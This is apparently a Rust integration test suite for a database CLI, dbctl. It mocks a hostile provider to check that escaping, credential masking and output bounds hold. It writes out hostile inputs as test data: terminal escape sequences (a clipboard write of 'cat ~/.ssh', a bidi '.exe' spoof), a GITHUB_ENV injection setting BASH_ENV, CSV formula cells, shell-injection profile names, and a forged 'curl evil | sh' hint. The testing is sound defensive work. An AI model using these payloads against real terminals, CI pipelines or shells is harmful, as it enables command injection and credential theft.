//! A hostile provider (or a proxy in front of one): every answer is built to act on the
//! operator's terminal, a CI environment, a spreadsheet or a shell, or to echo credentials
//! back. dbctl must stay inert: no control byte in table output or on stderr, one env line or
//! none, no CSV formula, no credential value anywhere, bounded pages, no panic.
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use crate::cases::{all as cases, Case};
use crate::common::{answer, mount_record, timed, Run, Sandbox, DB_PASSWORD};
use base64::Engine;
use serde_json::{json, Value};
use wiremock::matchers::{any, path};
use wiremock::{Mock, MockServer, Request, Respond, ResponseTemplate};

/// Sets the title, writes the clipboard, clears the screen, moves the cursor, and reverses
/// the text; CSI as one C1 byte too.
const EVIL: &str =
    "ev\u{1b}]0;pwned\u{7}il\u{1b}]52;c;Y2F0IH4vLnNzaA==\u{7}\u{1b}[2J\r\u{8}\u{9b}1m\u{202e}gnp.exe\u{7f}";
/// What a terminal acts on.
const ACTIVE: &[char] = &[
    '\u{1b}', '\u{7}', '\u{9b}', '\u{202e}', '\r', '\u{8}', '\u{7f}',
];
/// A host that would add lines to `$GITHUB_ENV`.
const ENV_INJECTION: &str = "-e\nBASH_ENV=./x\nY=";

fn assert_inert(run: &Run, what: &str) {
    for c in ACTIVE {
        assert!(
            !run.stdout.contains(*c) && !run.stderr.contains(*c),
            "{what}: {c:?} reached the terminal\n--- stdout\n{}\n--- stderr\n{}",
            run.stdout.escape_debug(),
            run.stderr.escape_debug()
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn table_output_shows_controls_as_escapes() {
    for case in cases() {
        let server = MockServer::start().await;
        let id = mount_record(&case, &server, EVIL, "ok.example.com").await;
        let sb = case.sandbox(&server);
        let list = sb.run("db list");
        list.code(0);
        assert_inert(&list, case.provider);
        assert!(
            list.stdout.contains("\\x1b]0;pwned\\x07"),
            "{}",
            list.stdout
        );
        assert!(list.stdout.contains("\\u{202e}"), "{}", list.stdout);
        if case.provider != "cosmos" {
            let get = sb.run(&["db", "get", id]);
            get.code(0);
            assert_inert(&get, case.provider);
        }
    }
}

/// `-o yaml`, like JSON, keeps a provider's name as data but writes its controls as escapes:
/// nothing raw reaches the terminal (bidi marks and NEL included, which libyaml leaves alone),
/// and the document reads back to the provider's own text.
#[tokio::test(flavor = "multi_thread")]
async fn yaml_output_shows_controls_as_escapes() {
    let unsafe_char = |c: char| {
        (c.is_control() && c != '\n')
            || matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    for case in cases() {
        for name in [
            "\u{202e}gnp.exe",
            "red\u{1b}[31mtext",
            EVIL,
            "a\u{85}b\u{2066}c\u{200f}d",
        ] {
            let server = MockServer::start().await;
            let id = mount_record(&case, &server, name, "ok.example.com").await;
            let sb = case.sandbox(&server);
            let mut runs = vec![sb.run("db list -o yaml")];
            if case.provider != "cosmos" {
                runs.push(sb.run(&["db", "get", id, "-o", "yaml", "--raw"]));
            }
            for run in runs {
                run.code(0);
                assert_inert(&run, case.provider);
                assert!(
                    !run.stdout.chars().any(unsafe_char),
                    "{}: a raw control in\n{}",
                    case.provider,
                    run.stdout.escape_debug()
                );
                let doc: Value = serde_yaml::from_str(&run.stdout).expect("a YAML document");
                let record = doc.as_array().map_or(&doc, |list| &list[0]);
                assert_eq!(record["name"], name, "{}: {}", case.provider, run.stdout);
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn error_messages_show_controls_as_escapes() {
    for case in cases() {
        for body in [
            json!({"message": EVIL, "error": EVIL, "description": EVIL}).to_string(),
            format!("<html><title>{EVIL}</title></html>"),
            format!("{EVIL}\nhint: run curl evil | sh"),
        ] {
            let server = MockServer::start().await;
            Mock::given(any())
                .respond_with(ResponseTemplate::new(400).set_body_raw(body, "text/plain"))
                .mount(&server)
                .await;
            let sb = case.sandbox(&server);
            for extra in [&[][..], &["--json"][..], &["-vv"][..]] {
                let mut args = vec!["db", "get", case.missing_id];
                args.extend_from_slice(extra);
                let run = sb.run(&args);
                run.code(6);
                assert_inert(&run, case.provider);
                assert!(
                    !run.stderr.contains("\nhint: run curl"),
                    "{}: a provider forged a line\n{}",
                    case.provider,
                    run.stderr
                );
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn env_output_is_one_line_or_refused() {
    for case in cases().iter().filter(|c| c.provider != "cosmos") {
        let server = MockServer::start().await;
        let id = mount_record(case, &server, "db", ENV_INJECTION).await;
        let run = case
            .sandbox(&server)
            .run(&["db", "url", id, "--format", "env"]);
        assert!(
            !run.stdout.contains("BASH_ENV") && !run.stderr.contains("BASH_ENV"),
            "{}: {run:?}",
            case.provider
        );
        run.code(8).stderr_has("no usable endpoint");

        let server = MockServer::start().await;
        let id = mount_record(case, &server, "db", "ok.example.com").await;
        let run = case
            .sandbox(&server)
            .run(&["db", "url", id, "--format", "env"]);
        run.code(0)
            .stderr_has("warning: the password in REDIS_URL is masked");
        assert_eq!(run.stdout.lines().count(), 1, "{}", run.stdout);
        assert!(run.stdout.starts_with("REDIS_URL=redis"), "{}", run.stdout);
        assert!(!run.stdout.contains(DB_PASSWORD));
        let shown =
            case.sandbox(&server)
                .run(&["db", "url", id, "--format", "env", "--show-secrets"]);
        shown.code(0).stdout_has(DB_PASSWORD);
        assert!(!shown.stderr.contains("warning"), "{}", shown.stderr);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn csv_cells_never_start_a_formula() {
    for case in cases() {
        let server = MockServer::start().await;
        for name in [
            "=HYPERLINK(\"http://x\")",
            "+1+1",
            "-1-1",
            "@SUM(A1)",
            "\tx",
            "\rx",
        ] {
            server.reset().await;
            mount_record(&case, &server, name, "ok.example.com").await;
            let run = case.sandbox(&server).run("db list -o csv");
            run.code(0);
            let mut reader = csv::Reader::from_reader(run.stdout.as_bytes());
            let cells: Vec<String> = reader
                .records()
                .flat_map(|record| {
                    record
                        .expect("CSV")
                        .iter()
                        .map(str::to_string)
                        .collect::<Vec<_>>()
                })
                .collect();
            for cell in &cells {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{}: formula cell {cell:?}",
                    case.provider
                );
            }
            // A formula is defused with a quote; a control character is shown as an escape.
            let defused = match name.chars().next() {
                Some('\t') => format!("\\t{}", &name[1..]),
                Some('\r') => format!("\\r{}", &name[1..]),
                _ => format!("'{name}"),
            };
            assert!(cells.contains(&defused), "{}: {cells:?}", case.provider);
        }
    }
}

/// How an echo wraps the request headers into a body.
type Shape = fn(&str) -> String;

/// Answers with the request's own headers, the way some proxies and debug endpoints do.
struct Echo {
    status: u16,
    shape: Shape,
}

impl Respond for Echo {
    fn respond(&self, request: &Request) -> ResponseTemplate {
        let headers: Vec<String> = request
            .headers
            .iter()
            .map(|(k, v)| format!("{k}: {}", v.to_str().unwrap_or("")))
            .collect();
        ResponseTemplate::new(self.status)
            .set_body_raw((self.shape)(&headers.join("\n")), "text/plain")
    }
}

/// Every credential value the requests carried: keys, the Basic token, the Cosmos signature
/// (raw and URL-encoded), and the configured secrets.
async fn credentials(case: &Case, server: &MockServer) -> Vec<String> {
    let mut out = (case.secrets)();
    let env = (case.env)(&server.uri());
    let var = |name: &str| env.iter().find(|(k, _)| *k == name).map(|(_, v)| v.clone());
    for (user, password) in [
        ("UPSTASH_EMAIL", "UPSTASH_API_KEY"),
        ("REDIS_ENTERPRISE_USER", "REDIS_ENTERPRISE_PASSWORD"),
    ] {
        if let (Some(user), Some(password)) = (var(user), var(password)) {
            out.push(
                base64::engine::general_purpose::STANDARD.encode(format!("{user}:{password}")),
            );
        }
    }
    for request in crate::common::requests(server).await {
        for name in ["authorization", "x-api-key", "x-api-secret-key"] {
            let Some(value) = request.headers.get(name).and_then(|v| v.to_str().ok()) else {
                continue;
            };
            let decoded = percent_encoding::percent_decode_str(value)
                .decode_utf8_lossy()
                .into_owned();
            if let Some(sig) = decoded.split('&').find_map(|p| p.strip_prefix("sig=")) {
                out.push(sig.to_string());
                out.push(value.rsplit("sig%3D").next().unwrap_or(value).to_string());
            }
            out.push(value.trim_start_matches("Basic ").to_string());
        }
    }
    out.retain(|s| s.len() >= 8);
    assert!(
        out.len() >= 2,
        "{}: no credentials to look for",
        case.provider
    );
    out
}

#[tokio::test(flavor = "multi_thread")]
async fn echoed_credentials_are_never_printed() {
    let shapes: [(u16, Shape); 5] = [
        (401, |h| h.to_string()),
        (401, |h| json!({"message": h}).to_string()),
        (403, |h| {
            format!("<html><head><title>{h}</title></head></html>")
        }),
        (200, |h| format!("not json\n{h}")),
        (500, |h| json!({"error": {"message": h}}).to_string()),
    ];
    for case in cases() {
        let server = MockServer::start().await;
        for (status, shape) in shapes {
            server.reset().await;
            Mock::given(any())
                .respond_with(Echo { status, shape })
                .mount(&server)
                .await;
            let sb = case.sandbox(&server);
            let runs = [
                sb.run("db list --retries 1"),
                sb.run("db list -vv --retries 2"),
                sb.run(&[
                    "db",
                    "get",
                    case.missing_id,
                    "--json",
                    "-vv",
                    "--retries",
                    "1",
                ]),
            ];
            let secrets = credentials(&case, &server).await;
            let secrets: Vec<&str> = secrets.iter().map(String::as_str).collect();
            for run in &runs {
                assert_ne!(run.code, 0, "{}: {run:?}", case.provider);
                run.no_secrets(&secrets);
            }
            // The -vv answer body (indented lines for JSON) carries the whole echo,
            // credentials masked.
            assert!(
                runs[1]
                    .stderr
                    .lines()
                    .any(|l| l.starts_with("dbctl: <") && l.contains(": ***")),
                "{}: {}",
                case.provider,
                runs[1].stderr
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn task_fields_never_show_url_passwords() {
    let password = "FtpPass-4321";
    let source = format!("ftp://backup:{password}@files.example/dump.rdb");
    let server = MockServer::start().await;
    answer(
        &server,
        "/v1/actions/a1",
        json!({"action_uid": "a1", "status": "failed", "name": "import",
            "error": format!("cannot download {source}")}),
    )
    .await;
    answer(
        &server,
        "/v1/tasks/t1",
        json!({"taskId": "t1", "status": "processing-error", "description": source,
            "response": {"error": {"description": format!("cannot read {source}")}}}),
    )
    .await;
    for case in cases() {
        let task = match case.provider {
            "redis-enterprise" => "a1",
            "redis-cloud" => "t1",
            _ => continue,
        };
        let sb = case.sandbox(&server);
        for format in ["table", "json", "yaml", "csv"] {
            let run = sb.run(&["task", "get", task, "-o", format, "-vv"]);
            run.code(0).no_secrets(&[password]);
            assert!(run.stdout.contains(":***@"), "{}", run.stdout);
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn passwords_inside_configured_urls_stay_hidden() {
    let password = "UrlPass-5678";
    let server = MockServer::start().await;
    Mock::given(any())
        .respond_with(ResponseTemplate::new(503).set_body_string("down"))
        .mount(&server)
        .await;
    let up = MockServer::start().await;
    let upstash = cases()
        .into_iter()
        .find(|c| c.provider == "upstash")
        .unwrap();
    (upstash.mount_list)(&up).await;
    let url = server
        .uri()
        .replace("http://", &format!("http://admin:{password}@"));
    let sb = upstash
        .sandbox(&up)
        .env("REDIS_ENTERPRISE_URL", url.clone())
        .env("REDIS_ENTERPRISE_USER", "admin")
        .env("REDIS_ENTERPRISE_PASSWORD", "re-password-9");
    let run = sb.run("db list -v --retries 2");
    run.code(12).no_secrets(&[password]).stderr_has("retrying");

    let config = format!(
        "[profiles.onprem]\nprovider = \"redis-enterprise\"\nurl = \"{url}\"\nuser = \"admin\"\n"
    );
    let sb = Sandbox::new();
    let file = sb.config(&config);
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).unwrap();
    }
    let show = sb.run("config show");
    show.code(0)
        .no_secrets(&[password])
        .stderr_has("readable by others");
    let validate = sb.run("config validate");
    validate.code(3).no_secrets(&[password]);
    assert!(validate.stdout.contains("problem"), "{}", validate.stdout);
}

#[tokio::test(flavor = "multi_thread")]
async fn profile_names_cannot_reach_a_shell() {
    for name in ["x$(touch f)y", "a\\\"; touch f; echo \\\""] {
        let sb = Sandbox::new();
        sb.config(&format!(
            "[profiles.\"{name}\"]\nprovider = \"upstash\"\nemail = \"a@b.c\"\napi_key = \"k\"\n"
        ));
        sb.run("db list").code(3).stderr_has("profile name");
        let script = sb.run("completions bash");
        script.code(0);
        assert!(!script.stdout.contains("touch f"), "{}", script.stdout);
    }
}

/// Cosmos pages of 10,000 records, each with a new continuation token, forever.
struct Endless(AtomicUsize);

impl Respond for Endless {
    fn respond(&self, _: &Request) -> ResponseTemplate {
        let page = self.0.fetch_add(1, Ordering::Relaxed);
        let records: Vec<Value> = (0..10_000)
            .map(|i| json!({"id": format!("db-{page}-{i}"), "_rid": "qicAAA=="}))
            .collect();
        ResponseTemplate::new(200)
            .insert_header("x-ms-continuation", format!("token-{page}").as_str())
            .set_body_json(json!({"Databases": records}))
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn endless_pages_stop_at_a_bound_within_the_deadline() {
    let cosmos = cases()
        .into_iter()
        .find(|c| c.provider == "cosmos")
        .unwrap();
    let server = MockServer::start().await;
    Mock::given(any())
        .respond_with(Endless(AtomicUsize::new(0)))
        .mount(&server)
        .await;
    let (run, took) = timed(|| cosmos.sandbox(&server).run("db list --request-timeout 5"));
    assert!(run.code == 8 || run.code == 11, "{run:?}");
    assert!(took < Duration::from_secs(6), "took {took:?}");
    if run.code == 8 {
        run.stderr_has("100000 items");
    }
    assert!(run.stdout.is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_full_or_closed_stderr_never_panics() {
    let re = cases()
        .into_iter()
        .find(|c| c.provider == "redis-enterprise")
        .unwrap();
    let server = MockServer::start().await;
    Mock::given(any())
        .respond_with(ResponseTemplate::new(404).set_body_string(EVIL))
        .mount(&server)
        .await;
    let spawn = |args: &[&str]| {
        let mut command = Command::new(assert_cmd::cargo::cargo_bin("dbctl"));
        command
            .args(args)
            .env_clear()
            .env("HOME", "/nonexistent")
            .envs((re.env)(&server.uri()))
            .stdin(Stdio::null());
        command
    };
    let full = spawn(&["db", "get", "999", "-p", "redis-enterprise", "-vv"])
        .stdout(Stdio::null())
        .stderr(std::fs::File::create("/dev/full").expect("/dev/full"))
        .status()
        .expect("run");
    assert_eq!(full.code(), Some(5));

    let mut child = spawn(&["db", "get", "999", "-vv"])
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn");
    drop(child.stderr.take());
    assert_eq!(child.wait().expect("wait").code(), Some(5));

    // A closed stdout ends quietly with success.
    server.reset().await;
    (re.mount_list)(&server).await;
    let mut child = spawn(&["db", "list", "-vv"])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("spawn");
    drop(child.stdout.take());
    assert_eq!(child.wait().expect("wait").code(), Some(0));
}

#[tokio::test(flavor = "multi_thread")]
async fn every_json_success_is_one_document() {
    let re = cases()
        .into_iter()
        .find(|c| c.provider == "redis-enterprise")
        .unwrap();
    let server = MockServer::start().await;
    Mock::given(path("/v1/empty"))
        .respond_with(ResponseTemplate::new(200))
        .mount(&server)
        .await;
    Mock::given(path("/v1/odd"))
        .respond_with(ResponseTemplate::new(999).set_body_string("odd"))
        .mount(&server)
        .await;
    Mock::given(any())
        .respond_with(ResponseTemplate::new(404).set_body_string("{\"error\":\"gone\"}"))
        .mount(&server)
        .await;
    let sb = re.sandbox(&server);
    let gone = sb.run("db wait 1 --status deleted --json");
    assert_eq!(gone.code(0).json()["status"], "deleted");
    let empty = sb.run("api redis-enterprise GET /v1/empty --json");
    assert_eq!(empty.code(0).json(), Value::Null);
    let path = sb.run("config path --json");
    assert!(path.code(0).json()["path"]
        .as_str()
        .unwrap()
        .ends_with("config.toml"));
    sb.run("api redis-enterprise GET /v1/odd").code(8);
}

#[tokio::test(flavor = "multi_thread")]
async fn secret_names_hide_every_shape_of_value() {
    let secrets = [
        "ENC-SECRET-1",
        "PMK-SECRET-2",
        "PK-SECRET-3",
        "AK-SECRET-4",
        "ACK-SECRET-5",
        "98765432",
    ];
    let body = json!({"password": {"encrypted": secrets[0]}, "primaryMasterKey": secrets[1],
        "privateKey": [secrets[2]], "accessKey": secrets[3],
        "connectionString": format!("AccountEndpoint=https://a/;AccountKey={};", secrets[4]),
        "note": format!("AccountKey={}", secrets[4]), "pin_password": 98765432,
        "partitionKey": {"paths": ["/id"]}});
    let re = cases()
        .into_iter()
        .find(|c| c.provider == "redis-enterprise")
        .unwrap();
    let server = MockServer::start().await;
    answer(&server, "/v1/raw", body).await;
    let sb = re.sandbox(&server);
    let run = sb.run("api redis-enterprise GET /v1/raw -vv");
    run.code(0).no_secrets(&secrets).stdout_has("\"/id\"");
}
